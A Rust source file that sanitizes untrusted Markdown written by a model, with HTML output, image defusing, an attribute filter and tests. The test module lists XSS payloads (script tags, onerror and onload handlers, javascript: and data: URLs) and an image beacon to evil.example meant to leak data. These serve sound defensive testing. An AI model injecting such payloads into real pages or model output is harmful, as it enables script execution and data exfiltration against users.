//! Markdown from a model, which is not to be trusted, as something to look at.

use std::collections::HashSet;
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html};

use crate::session::MimeBundle;

/// `text/html` (sanitized), `text/markdown` (raw HTML and images defused) and the text itself.
pub fn markdown(text: &str) -> MimeBundle {
    MimeBundle::html(to_html(text), text).with("text/markdown", defused(text))
}

/// Sanitized HTML: no scripts, no styles, no event handlers, no forms, and nothing that
/// makes the browser fetch from a host a model chose.
pub fn to_html(text: &str) -> String {
    let events = Parser::new_ext(text, options());
    let mut raw = String::with_capacity(text.len() * 2);
    html::push_html(&mut raw, without_fetching(events));
    format!("<div class=\"codriver-markdown\">{}</div>", SANITIZER.clean(&raw))
}

/// The Markdown source with `<` of raw HTML escaped and images turned into links, for front
/// ends that prefer `text/markdown` and render it themselves.
fn defused(text: &str) -> String {
    let mut defused = String::with_capacity(text.len());
    let mut copied = 0;
    let mut edits: Vec<(usize, usize, &str)> = Vec::new();
    for (event, range) in Parser::new_ext(text, options()).into_offset_iter() {
        match event {
            Event::Html(_) | Event::InlineHtml(_) => {
                let tags = text[range.clone()].match_indices('<');
                edits.extend(tags.map(|(at, _)| (range.start + at, range.start + at + 1, "&lt;")));
            }
            Event::Start(Tag::Image { .. }) => edits.push((range.start, range.start + 1, "")),
            _ => {}
        }
    }
    edits.sort_unstable();
    for (start, end, replacement) in edits {
        if start < copied {
            continue;
        }
        defused.push_str(&text[copied..start]);
        defused.push_str(replacement);
        copied = end;
    }
    defused.push_str(&text[copied..]);
    defused
}

fn options() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS | Options::ENABLE_FOOTNOTES
}

/// An image whose address a model wrote is a way to send data out: it becomes a link that a
/// person may follow. Boxes of task lists become characters.
fn without_fetching<'a>(events: impl Iterator<Item = Event<'a>>) -> impl Iterator<Item = Event<'a>> {
    events.map(|event| match event {
        Event::Start(Tag::Image { dest_url, title, .. }) => Event::Start(Tag::Link {
            link_type: pulldown_cmark::LinkType::Inline,
            dest_url,
            title,
            id: CowStr::Borrowed(""),
        }),
        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
        Event::TaskListMarker(true) => Event::Text(CowStr::Borrowed("☑ ")),
        Event::TaskListMarker(false) => Event::Text(CowStr::Borrowed("☐ ")),
        other => other,
    })
}

static SANITIZER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::default();
    builder
        .rm_tags(["img", "map", "area", "center"])
        .add_tag_attributes("code", ["class"])
        .add_tag_attributes("th", ["style"])
        .add_tag_attributes("td", ["style"])
        .attribute_filter(keep_attribute)
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"));
    builder
});

/// Of styles, a table cell's alignment; of classes, a code block's language.
fn keep_attribute<'value>(element: &str, attribute: &str, value: &'value str) -> Option<std::borrow::Cow<'value, str>> {
    let keep = match (element, attribute) {
        (_, "style") => matches!(value, "text-align: left" | "text-align: right" | "text-align: center"),
        ("code", "class") => value.strip_prefix("language-").is_some_and(|language| {
            language.chars().all(|character| character.is_ascii_alphanumeric() || "+-#_.".contains(character))
        }),
        _ => true,
    };
    keep.then_some(std::borrow::Cow::Borrowed(value))
}

#[cfg(test)]
mod tests {
    use super::{defused, to_html};

    #[test]
    fn what_is_hostile_does_not_survive() {
        let hostile = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![pixel](https://evil.example/?stolen=1)",
            "[click](javascript:alert(1))",
            "<a href=\"data:text/html,<script>x</script>\">x</a>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<div style=\"background:url(https://evil.example)\" onclick=\"x()\">x</div>",
            "<form action=\"https://evil.example\"><input type=text name=a><button>go</button></form>",
            "<style>@import url(https://evil.example)</style>",
            "<svg onload=alert(1)><foreignObject><script>1</script></foreignObject></svg>",
            "`<b>` <object data=x></object><embed src=x><meta http-equiv=refresh content=0>",
        ];
        for text in hostile {
            let html = to_html(text).to_lowercase();
            for bad in [
                "<script",
                "onerror",
                "onclick",
                "onload",
                "javascript:",
                "<img",
                "<iframe",
                "<form",
                "<style",
                "<svg",
                "url(",
                "<object",
                "<embed",
                "<meta",
                "data:text",
                "type=\"text\"",
                "<button",
            ] {
                assert!(!html.contains(bad), "{bad} in {html}");
            }
            let markdown = defused(text);
            assert!(
                !markdown.contains("<script") && !markdown.contains("<img") && !markdown.contains("!["),
                "{markdown}"
            );
        }
    }

    #[test]
    fn what_is_meant_survives() {
        let html = to_html(
            "# Title\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```rust\nlet x = a < b;\n```\n\n- [x] done\n\n**bold** [ok](https://example.org)",
        );
        for part in [
            "<h1>Title</h1>",
            "<table>",
            "text-align: right",
            "class=\"language-rust\"",
            "a &lt; b",
            "<strong>bold</strong>",
            "href=\"https://example.org\"",
            "☑ done",
        ] {
            assert!(html.contains(part), "{part} is missing in {html}");
        }
        assert_eq!(defused("`<b>` and 1 < 2\n\n```\n<script>\n```"), "`<b>` and 1 < 2\n\n```\n<script>\n```");
    }

    #[test]
    fn every_beginning_of_a_text_renders() {
        let text = "# Tïtle\n\n```sql\nSELECT '<b>'\n```\n\n| a |\n|---|\n| **é** |\n\n<scr";
        for (at, _) in text.char_indices() {
            to_html(&text[..at]);
            defused(&text[..at]);
        }
    }
}
